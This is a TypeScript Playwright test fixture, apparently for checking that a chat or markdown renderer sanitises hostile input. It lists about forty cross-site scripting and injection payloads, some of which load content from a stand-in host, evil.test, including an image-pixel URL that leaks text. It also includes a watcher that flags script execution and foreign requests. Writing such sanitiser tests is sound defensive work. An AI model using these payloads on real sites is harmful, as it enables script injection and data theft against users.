/** Texts that try to run a script, or to make the page ask somebody else. */

import type { Page } from '@playwright/test';

declare global {
  interface Window {
    pwned?: unknown[];
    pwn: (what: unknown) => void;
  }
}

const EVIL = 'https://evil.test';

export const PAYLOADS: readonly string[] = [
  '<script>pwn(1)</script>',
  '<img src=x onerror=pwn(2)>',
  '"><img src=x onerror=pwn(3)>',
  '<svg onload=pwn(4)>',
  '<svg><script>pwn(5)</script></svg>',
  '<iframe srcdoc="<script>parent.pwn(6)</script>"></iframe>',
  '<iframe src="javascript:parent.pwn(7)"></iframe>',
  '<a href="javascript:pwn(8)">click</a>',
  '[click](javascript:pwn(9))',
  '[click](JaVaScRiPt:pwn(10))',
  '[click](java\tscript:pwn(11))',
  '[click](&#106;avascript:pwn(12))',
  '[click](data:text/html,<script>pwn(13)</script>)',
  '[click](vbscript:pwn(14))',
  '<javascript:pwn(15)>',
  '![x](javascript:pwn(16))',
  '![x" onerror="pwn(17)](x)',
  '![x](data:image/svg+xml,<svg onload=pwn(18)>)',
  '`<img src=x onerror=pwn(19)>`',
  '```"><img src=x onerror=pwn(20)>\ncode\n```',
  '```html\n<img src=x onerror=pwn(21)>\n```',
  '$$\\href{javascript:pwn(22)}{x}$$',
  '$$\\includegraphics{https://evil.test/tex.png}$$',
  '$$\\htmlStyle{background:url(https://evil.test/tex)}{x}$$',
  '| a |\n| - |\n| <img src=x onerror=pwn(25)> |',
  '<details open ontoggle=pwn(26)>x</details>',
  '<body onload=pwn(27)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=pwn(28)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn(29)>',
  '<noscript><p title="</noscript><img src=x onerror=pwn(30)>">',
  '<template><img src=x onerror=pwn(31)></template>',
  `<link rel=stylesheet href=${EVIL}/style.css>`,
  `<style>@import url(${EVIL}/import.css);</style>`,
  `<div style="background:url(${EVIL}/style.png)">x</div>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/refresh">`,
  `<object data=${EVIL}/object></object><embed src=${EVIL}/embed>`,
  `<video src=${EVIL}/video autoplay></video><audio src=${EVIL}/audio autoplay></audio>`,
  `<base href=${EVIL}/>`,
  '[click](chatkit-link://x?a="><img src=x onerror=pwn(39)>)',
  '[x]: javascript:pwn(40)\n\n[x]',
  '{{constructor.constructor("pwn(41)")()}}',
  `![pixel](${EVIL}/pixel.png?stolen=words)`,
  `![pixel][1]\n\n[1]: ${EVIL}/pixel.png`,
  '\u202E<script>pwn(42)</script>',
];

/**
 * Notes calls of `pwn` in `window.pwned`.
 *
 * @returns What was asked for of other origins so far.
 */
export async function watchForScripts(page: Page, own: string): Promise<() => string[]> {
  const foreign: string[] = [];
  page.on('request', (request) => {
    const url = request.url();
    if (!url.startsWith(own) && !/^(data|blob|about):/.test(url)) foreign.push(url);
  });
  page.on('dialog', (dialog) => {
    foreign.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  await page.addInitScript(() => {
    window.pwned = [];
    window.pwn = (what) => window.pwned?.push(what);
  });
  return () => foreign;
}
